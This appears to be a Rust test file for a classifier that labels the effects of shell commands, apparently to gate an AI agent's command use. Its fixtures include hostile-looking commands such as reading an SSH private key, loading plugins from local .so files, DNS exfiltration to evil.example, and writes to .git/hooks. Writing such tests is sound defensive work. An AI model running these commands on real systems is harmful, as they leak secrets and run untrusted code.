use action::{Certainty, Effects, Tier, Verb};

use super::risks::{HARMLESS, QUERIES, RISKS};
use crate::facts::Facts;
use crate::place::Place;
use crate::shell::read;
use crate::shell::tests::{facts, has};

fn by_hand(text: &str) -> Effects {
    read(text, &Facts { by_hand: true, ..facts() }, Place::Host)
}

fn is_opaque(effects: &Effects) -> bool {
    effects.iter().any(|e| e.certainty == Certainty::Opaque || e.verb == Verb::Opaque)
}

const MORE_THAN_THE_ROW: &[&str] = &[
    "ls --hyperlink=/x src",
    "sudo ls",
    "sudo -u deploy cat a",
    "doas cat a",
    "top",
    "top -d 1",
    "fc",
    "read -e x",
    "read -re x",
    "terraform state list",
    "pnpm ls",
    "uv pip list",
    "uv tree",
    "poetry show",
    "terraform-docs .",
    "trivy fs .",
    "vagrant version",
    "brew info evil/tap/x",
    "kcat -L -X plugin.library.paths=./x.so",
    "kafka-topics --list --bootstrap-server localhost:9092 --command-config x",
    "npm docs",
    "dnf list --setopt=pluginpath=./x",
    "hostnamectl status -H evil.example",
    "cargo owner --list -a evil x",
    "gem sources -a https://evil.example",
    "tfupdate terraform -v 9 x",
    "helm template x sub --set-file a=/home/ana/.ssh/id_rsa",
    "nomad job plan x.nomad",
    "tofu show",
    "flyway info",
    "prisma migrate status",
    "pulumi stack ls",
    "kustomize build overlays/dev",
    "kubectl kustomize overlays/dev",
    "airflow dags list",
    "docker manifest inspect evil.example/x",
    "skopeo inspect docker://evil.example/x",
    "gh pr list --repo evil.example/a/b",
    "gh pr list --repo=evil.example/a/b",
    "gh pr list -Revil.example/a/b",
    "gh pr view https://evil.example/a/b/pull/1",
    "glab mr list -R evil.example/a/b",
    "grep --unheard-of x src",
    "cp --reflink=/x a b",
    "cat --from=/etc/x a",
    "gofmt -cpuprofile=.git/hooks/pre-commit main.go",
    "pip list \"$X\"",
    "cp -r evil/. .",
    "cp -rT evil .",
    "cp -a evil/. ./",
    "cp evil/.* .",
    "mv evil/.[a-z]* .",
    "rsync -a evil/ .",
    "tar xf a.tar",
    "tar cf host:x.tar src",
    "patch -u -i x.patch",
    "patch -u < x.patch",
    "tar -cf me@host:x.tar src",
    "tar -xf a.tar",
    "tar xzf a.tgz",
    "tar xPf a.tar -C new",
    "tar xf a.tar -C new --one-top-level=.git",
    "tar xf a.tar -C new --transform s,x,.git,",
    "tar -cf a.tar --index-file=x src",
    "tar -cf a.tar -g snar src",
    "tar -cf a.tar --add-file=x src",
    "tar -cf a.tar -T list",
    "tar cf a.tar -T list",
    "tar xf a.tar -C .",
    "tar xf a.tar -C .git",
    "ln -s .git x && tar xf a.tar -C x",
    "unzip a.zip",
    "bsdtar xf a.tar",
    "ar x lib.a",
    "7z x a.7z",
    "cpio -i -F a.cpio",
    "find . -name x -exec sed -i s/a/b/ {} +",
    "find . -execdir rm {} ;",
    "find . -delete",
    "find -delete",
    "find .github -name x -exec touch {} +",
    "find ./ -type f -exec cp x {} \\;",
    "sed -i s/a/b/ .*",
    "chmod -R 777 .",
    "chmod -R 777 .github",
    "strace -o '|x' true",
    "strace -o'!x' true",
    "pip --python ./x list",
    "pip --python=./x list",
    "pip list --python ./x",
    "pip --log=x list",
    "uv pip list --python ./x",
    "uv pip list -p ./x",
    "uv --python ./x pip list",
    "nm --plugin ./x.so a.o",
    "nm --plugin=./x.so a.o",
    "objdump --plugin ./x.so a.o",
    "size --plugin ./x.so a.o",
    "ar --plugin ./x.so t a.a",
    "npm view react --browser ./x",
    "npm ls --viewer ./x",
    "npm ls --git=./x",
    "npm pkg get x --script-shell ./x",
    "npm ls --node-options=--require=./x",
    "cloc --vcs ./x .",
    "cloc --counted=x .",
    "gpg -a --list-keys --homedir ./x",
    "gpg -a x",
    "gpg --armor x",
    "gpg --list-keys --options ./x",
    "gpg --list-keys --agent-program ./x",
    "rpm -q --load ./x bash",
    "rpm -q --rcfile ./x bash",
    "rpm -q --specfile ./x",
    "rpm -qp https://example.com/x.rpm",
    "xmllint --shell a.xml",
    "xmllint --xinclude a.xml",
    "xmllint --noent a.xml",
    "xmllint https://example.com/a.xml",
    "ansible-playbook site.yml --syntax-check",
    "ansible-playbook site.yml --list-tasks",
    "packer validate x.pkr.hcl",
    "terraform validate",
    "cargo tree --config ./x.toml",
    "cargo --config ./x.toml metadata",
    "apt-get -s install x -s=no",
    "apt-get -s install x --no-simulate",
    "apt-get -s install x -o APT::Get::Simulate=no",
    "apt-get -s install x -c ./x",
    "awk --profile=x '{print}' a",
    "awk --dump-variables=x '{print}' a",
    "awk --pretty-print=x '{print}' a",
    "sed -i'/tmp/*' s/a/b/ x",
    "sed -i'*.bak' s/a/b/ x",
    "sed --in-place='d/*' s/a/b/ x",
    "yq 'load(\"x\")' a.yml",
    "yq 'load_str(\"x\")' a.yml",
    "yq 'env(SECRET)' a.yml",
    "awk 'BEGIN{ARGV[1]=\"/etc/x\";ARGC=2}{print}'",
    "curl --socks5 evil.example https://crates.io/x",
    "curl --preproxy evil.example https://crates.io/x",
    "curl --doh-url https://evil.example https://crates.io/x",
    "curl --dns-servers 1.2.3.4 https://crates.io/x",
    "curl --unix-socket /run/x.sock http://localhost/x",
    "curl --unheard-of x https://crates.io/x",
    "rsync -a --unheard-of=x src/a new",
    "curl gopher://localhost/x",
    "curl file:///etc/x",
    "curl http://localhost:2375/containers/json",
    "curl http://127.0.0.1:2376/x",
];

#[test]
fn what_does_more_than_its_row_says_is_opaque_by_hand() {
    let mut passed = Vec::new();
    for text in MORE_THAN_THE_ROW {
        let effects = by_hand(text);
        if !is_opaque(&effects) {
            passed.push(format!("{text}: {:#?}", effects.lines()));
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn what_is_written_or_read_is_named() {
    let mut passed = Vec::new();
    for (text, verb, name) in [
        ("link a b", Verb::Update, "a"),
        ("cp -l a b", Verb::Update, "a"),
        ("cp --link a b", Verb::Update, "a"),
        ("tar cf a.tar src --remove-files", Verb::Delete, "src"),
        ("csplit -f .git/hooks/x a 1", Verb::Opaque, "csplit a"),
        ("split a .git/hooks/x", Verb::Opaque, "split a"),
        ("mktemp .git/hooks/x", Verb::DisableProtection, ".git/hooks/x"),
        ("scc -o out src", Verb::Update, "out"),
        ("gofmt -cpuprofile out main.go", Verb::Update, "out"),
        ("openssl rand -writerand out 8", Verb::Update, "out"),
        ("ruff check --output-file out", Verb::Update, "out"),
        ("go mod edit other/go.mod", Verb::Update, "other/go.mod"),
        ("blkid -c out", Verb::Update, "out"),
        ("date 01010101", Verb::Update, "the time"),
        ("curl -H @secret https://crates.io/x", Verb::Read, "secret"),
        ("diff -X secret a b", Verb::Read, "secret"),
        ("curl -O 'https://crates.io/a/.envrc?x=1'", Verb::DisableProtection, ".envrc"),
        ("wget https://crates.io/a/Makefile", Verb::Create, "Makefile"),
    ] {
        let effects = by_hand(text);
        if !has(&effects, verb, name) {
            passed.push(format!("{text}: {:#?}", effects.lines()));
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
    let whole = by_hand("terraform fmt /etc/x");
    assert!(whole.iter().any(|e| e.verb == Verb::Update && e.resource.name.starts_with("/etc/x")), "{:#?}", whole.lines());
}

#[test]
fn questions_to_registries_and_name_servers_are_contacts() {
    for (text, host) in [
        ("npm view react", "registry.npmjs.org"),
        ("npm ping --registry https://evil.example/x", "evil.example"),
        ("pip index versions x --index-url https://evil.example/x", "evil.example"),
        ("pip index versions x", "pypi.org"),
        ("cargo search serde", "crates.io"),
        ("getent hosts secret.evil.example", "secret.evil.example"),
        ("getent ahosts secret.evil.example", "secret.evil.example"),
        ("getent networks evil.example", "evil.example"),
        ("gron https://evil.example/x.json", "evil.example"),
        ("kustomize build https://evil.example/x", "evil.example"),
    ] {
        let effects = by_hand(text);
        let reached = effects.iter().any(|e| ["host", "registry"].contains(&e.resource.kind.as_str()) && e.resource.name.starts_with(host) && e.tier > Tier::Host);
        assert!(reached, "{text}: {:#?}", effects.lines());
    }
    let told = by_hand("getent hosts \"$X\".evil.example");
    assert!(told.iter().any(|e| e.verb == Verb::Expose), "{:#?}", told.lines());
}

#[test]
fn a_new_folder_of_the_same_command_takes_what_it_gets() {
    for text in ["tar -xzf a.tgz -C vendor", "tar xzf a.tgz -C vendor", "unzip a.zip -d fixtures", "cp -r a/. new", "mv docs/*.md site/", "cargo +nightly tree", "date +%F", "mktemp", "find src -name x -exec grep y {} +", "find . -name x"] {
        let effects = by_hand(text);
        assert!(!effects.iter().any(|e| e.verb == Verb::Execute && e.certainty == Certainty::Opaque), "{text}: {:#?}", effects.lines());
    }
}

#[test]
fn everyday_commands_stay_readable_by_hand() {
    let all = include_str!("../../../../data/corpora/everyday.txt").split("\n== ");
    let read_ones = all.filter(|section| !section.starts_with("builds, tests, installs")).flat_map(|section| section.lines().skip(1));
    let commands: Vec<&str> = read_ones.filter(|line| !line.is_empty() && !line.starts_with('#')).collect();
    let held: Vec<&&str> = commands.iter().filter(|text| is_opaque(&by_hand(text))).collect();
    println!("{} of {}: {held:#?}", held.len(), commands.len());
    assert!(commands.len() > 300 && held.len() * 10 < commands.len(), "{} of {}: {held:#?}", held.len(), commands.len());
}

#[test]
fn the_lists_are_sorted_and_name_options() {
    assert!(HARMLESS.iter().all(|option| option.starts_with("--")));
    assert!(RISKS.iter().map(|(names, _)| names).is_sorted() && QUERIES.iter().map(|query| query.0).is_sorted());
    for risk in RISKS.iter().flat_map(|(_, risks)| risks.split_whitespace()) {
        assert!(risk == "always" || risk.starts_with("--") || (risk.starts_with('-') && risk.len() == 2), "{risk}");
    }
}

#[test]
fn files_whose_names_are_derived_are_not_passed_over() {
    for command in [
        "gunzip rust-toolchain.toml.gz", "gunzip .mcp.json.gz", "gzip -d ./.envrc.gz", "xz -d .cargo/config.toml.xz", "zstd -d .mcp.json.zst", "gzip -S .json .mcp",
        "sed -i.json s/a/b/ .mcp", "cp -b -S .json a.txt .mcp", "mv --backup --suffix=.json a.txt .mcp", "rsync -b --suffix=.json a .mcp", "rsync --backup-dir=.claude a b",
        "rsync --partial-dir=.claude a b", "rsync -T .claude a b", "curl -w '%output{src/a}' http://x/", "terraform plan -generate-config-out=src/a",
        "kubectl cluster-info dump --output-directory=src",
    ] {
        assert!(is_opaque(&by_hand(command)), "{command}");
    }
    for command in ["gunzip data.csv.gz", "sed -i.bak s/a/b/ a.txt", "cp a.txt b.txt"] {
        assert!(!is_opaque(&by_hand(command)), "{command}");
    }
}

#[test]
fn what_a_client_of_packages_is_told_is_a_contact_wherever_it_stands() {
    for text in [
        "npm view https://evil.example/x", "npm view git+https://evil.example/x.git", "npm view git@evil.example:a/b", "npm view react@https://evil.example/x",
        "npm owner ls x --registry=https://evil.example/$T", "npm fund https://evil.example/x", "npm dist-tag ls x --registry https://evil.example", "pip list -o -i https://evil.example",
        "gem search x -s https://evil.example", "pnpm view https://evil.example/x", "npm view github:evil/x",
    ] {
        let effects = by_hand(text);
        let told = effects.iter().any(|e| e.tier > Tier::Host && (e.verb == Verb::Expose || e.certainty != Certainty::Exact));
        assert!(told, "{text}: {:#?}", effects.lines());
    }
}

#[test]
fn a_variable_that_nobody_knows_makes_a_program_opaque_that_only_its_row_speaks_for() {
    for text in [
        "KAFKA_OPTS=-javaagent:x.jar kafka-topics --list --bootstrap-server localhost:9092", "ERL_AFLAGS=x rabbitmqctl status", "VAGRANT_CWD=x vagrant box list",
        "export HOMEBREW_BROWSER=./x; brew info curl", "LIBMYSQL_PLUGINS=x mysqladmin ping",
    ] {
        assert!(is_opaque(&by_hand(text)), "{text}: {:#?}", by_hand(text).lines());
    }
    for text in ["LC_ALL=C sort a", "TZ=UTC date", "X=1 cat a", "for f in a b; do wc -l $f; done", "X=1; date"] {
        assert!(!is_opaque(&by_hand(text)), "{text}: {:#?}", by_hand(text).lines());
    }
}
